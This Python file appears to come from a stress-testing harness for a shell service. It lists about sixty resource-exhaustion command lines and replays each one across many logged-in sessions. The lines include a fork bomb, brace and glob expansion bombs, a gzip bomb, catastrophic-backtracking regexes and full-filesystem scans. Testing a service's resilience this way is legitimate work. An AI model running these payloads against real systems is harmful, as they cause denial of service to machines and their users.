# SPDX-License-Identifier: MIT
"""Command lines of an attacker who is logged in: each as many times as sessions, again and again until time is up."""

from __future__ import annotations

from hostile.attack import Attack, Play, Target, crowd

MOST_COMMANDS = 200
"""Command lines of one session."""


def line(text: str, sessions: int = 1, sources: int = 1) -> Play:
    """Run `text` repeatedly in `sessions` sessions, from as many addresses as `sources`."""

    async def session(target: Target, source: int) -> None:
        connection = await target.log_in(source)
        async with connection:
            for _ in range(MOST_COMMANDS):
                if not target.left:
                    break
                await target.run(connection, text)

    return crowd(sessions, session, sources)


BRACES = "{a,b,c,d,e,f,g,h}" * 8
NESTED = "$(echo " * 200 + "x" + ")" * 200
BIG = "x=$(head -c 65000 /dev/zero | tr '\\0' a); "
SUMS = "1" + "+1" * 500
QUOTED = "echo " + '"$(' * 300 + "true" + ')"' * 300

ATTACKS = (
    Attack("sha512sum loop", line("for i in {1..900}; do sha512sum /usr/bin/* >/dev/null; done"), short=True),
    Attack("sha512sum of many operands", line("for i in {1..90}; do sha512sum /usr/bin/* /usr/bin/* >/dev/null; done")),
    Attack("yes | grep | wc", line("yes | grep n | wc -l"), short=True),
    Attack("yes | grep | wc x10", line("yes | grep n | wc -l", sessions=10)),
    Attack("yes | grep | sort | rev x20", line("while true; do yes | grep n | sort | rev | wc -l; done", sessions=20)),
    Attack("cat /*/*/* loop", line("for i in {1..900}; do cat /*/*/* >/dev/null; done")),
    Attack("grep -r of stars", line("grep -r '*a*a*a*b' /"), short=True),
    Attack("grep -E of nested groups", line("cat /etc/* /usr/bin/* | grep -E '(a+)+(b+)+(.*.*)*$'")),
    Attack("sed of stars", line("cat /etc/* | sed 's/.*.*.*.*=.*.*$/x/g' | wc -l")),
    Attack("seq | sort | rev | tr", line("seq 1 2000000 | sort -r | rev | tr 0-9 a-j | wc -c")),
    Attack("seq 1e12", line("seq 1 1000000000000 | tail -n 1")),
    Attack("fork bomb", line("f(){ f|f& };f", sessions=4)),
    Attack("recursion", line("f(){ f; f; }; f", sessions=4)),
    Attack("while true x20", line("while true; do :; done", sessions=20)),
    Attack("doubling x20", line('x=a; while true; do x="$x$x"; done', sessions=20)),
    Attack("brace bomb", line(f"echo {BRACES} | wc -c")),
    Attack("brace range bomb", line("echo {1..100000000} | wc -c")),
    Attack("glob bomb", line("echo " + "/*/../*/.." * 8 + "/*")),
    Attack("glob of stars", line("cd /usr/bin; for i in {1..900}; do echo *a*a*a*a*a*b*c > /dev/null; done")),
    Attack("arithmetic bomb", line("echo $((9**9**9)) $((1<<1000000000000)); i=1; while true; do i=$((i*i+7)); done")),
    Attack("deep substitutions", line(f"echo {NESTED}; {QUOTED}")),
    Attack("deep parentheses", line("echo $((" + "(" * 5000 + "1" + ")" * 5000 + "))")),
    Attack("100,000 files", line("mkdir -p /tmp/m; for i in {1..100000}; do echo $i > /tmp/m/f$i; done; ls /tmp/m")),
    Attack("deep directories", line("while true; do mkdir -p a/a/a/a/a/a/a/a; cd a/a/a/a/a/a/a/a; done; find / | wc")),
    Attack("gunzip bomb", line("head -c 8000000 /dev/zero | gzip | gzip > /tmp/z; zcat /tmp/z | zcat | wc -c")),
    Attack("2,000 pipes", line("true" + " | cat" * 2000)),
    Attack("wide printf", line("printf '%999999999s' x | wc -c; printf '%0.999999999d' 1 | md5sum")),
    Attack("base64 of /dev/zero", line("base64 /dev/zero | tr A b | md5sum; dd if=/dev/zero bs=1G count=10 | wc -c")),
    Attack("find -exec", line(r"find / -exec sha256sum {} \; -exec md5sum {} + | sort | uniq -c | sort -rn")),
    Attack("xargs of everything", line("find / | xargs cat | tr -d '\\000' | sort | uniq -c")),
    Attack("conditions of sums", line("[[ " + " || ".join([f"1{SUMS} -eq 2"] * 200) + " ]]"), short=True),
    Attack("conditions of stars", line("x=$(printf 'a%.0s' {1..1000}); [[ " + " || ".join(
        "$x = *[!b]" + "[a]" * 300 + f"{number}c*" for number in range(100)) + " ]]", sessions=4)),
    Attack("wide brackets", line("[[ x = " + "[\u0100-\uffff]" * 200 + " ]]")),
    Attack("replacing of stars", line("x=$(printf 'a%.0s' {1..1000}); y=${x//*[!b]" + "[a]" * 300 + "c*/y}")),
    Attack("replacing by 64 KiB", line(BIG + "y=${x:0:1024}; z=${y//?/$x}", sessions=4)),
    Attack("words of 64 KiB", line(BIG + "[[ " + "$x$x " * 1900 + "]]", sessions=4)),
    Attack("array of sums", line("a=(" + f"[{SUMS}]=x " * 200 + ")")),
    Attack("declare sums", line("declare -i " + " ".join(f"a{number}={SUMS}" for number in range(200)))),
    Attack("expr of patterns", line("expr " + " : ".join(
        ["aaaa", *(rf"\(a*\)\{{{number % 200 + 1}\}}\{{30\}}.*" for number in range(700))]))),
    Attack("expr index", line(BIG + "y=${x//a/b}; expr index $x $y")),
    Attack("cut with a long delimiter", line(
        BIG + "y=${x//a/,}; echo $y | cut -d, -f1- --output-delimiter=$x"), short=True),
    Attack("hexdump of a wide number", line("head -c 99 /dev/urandom | hexdump -e '\"%999999999d\"'"), short=True),
    Attack("printf -v of a long layout", line(BIG + 'printf -v v "$x%.0s" {1..1990}', sessions=8)),
    Attack("expand of tabs", line("head -c 65000 /dev/zero | tr '\\0' '\\t' | expand -t 999", sessions=8)),
    Attack("column with a long delimiter", line(
        "printf '" + "a " * 199 + "\\n%.0s' {1..300} | column -t -o " + "x" * 60_000)),
    Attack("diff of repeated lines", line(
        "yes x | head -400 > /tmp/a; yes $'x\\ny' | head -400 > /tmp/b; diff /tmp/a /tmp/b"), short=True),
    Attack("sort by eight keys", line(
        "head -c 1000000 /dev/zero | tr '\\0' '\\t' | sed 's/\\t\\t/\\ta/g' | fold -w 2000 | sort "
        + " ".join(f"-k{number}" for number in range(1, 9)))),
    Attack("awk -F that looks far ahead", line(BIG + "echo $x | awk -F 'a(.*b)?' '{print $1}'")),
    Attack("grep of 60 patterns", line(BIG + "echo $x | grep -o " + " ".join(
        f"-e 'a.*b{number}'" for number in range(60)) + " -e a")),
    Attack("iconv to punycode", line(
        "head -c 30000 /dev/urandom | base64 -w0 | tr a-z '\\200-\\231' | iconv -f latin1 -t punycode")),
    Attack("cat -v of bytes", line("head -c 400000 /dev/zero | tr '\\0' '\\377' | cat -v")),
    Attack("gzip and xz of noise", line("head -c 1048000 /dev/urandom > /tmp/n; gzip < /tmp/n; xz < /tmp/n")),
    Attack("dd far beyond the end", line("dd if=/dev/zero of=/tmp/d bs=1M seek=31 count=1 conv=notrunc", sessions=8)),
    Attack("bc of long numbers", line("echo '(2^6000)*(2^6000);l(0);s(2^4000)' | bc -l; echo 'x=.01;"
                                      + "x=x/.000001;" * 80 + "x' | bc")),
    Attack("find of many stars", line("find / " + " -o ".join(
        "-path '*[!b]" + "[a-z]" * 60 + f"{number}c*'" for number in range(60)))),
    Attack("find -printf of everything", line("find / -printf '" + "%p%t%u%g%i%n" * 80 + "'")),
    Attack("xargs of short words", line("seq 1 100000 | xargs -n 1 true; seq 1 100000 | xargs -I{} true {}")),
    Attack("tar of headers without end", line(
        "printf 'x' > /tmp/h; for i in 1 2 3 4 5 6 7 8 9 10 11; do cat /tmp/h /tmp/h > /tmp/g; cat /tmp/g > /tmp/h; "
        "done; tar cf /tmp/t /tmp/h; cat /tmp/t /tmp/t /tmp/t /tmp/t | tar tf -")),
    Attack("awk and cut of a stream", line("yes 'a b c d e f' | awk '{print $3}' | cut -c1 | uniq -c")),
)  # fmt: skip
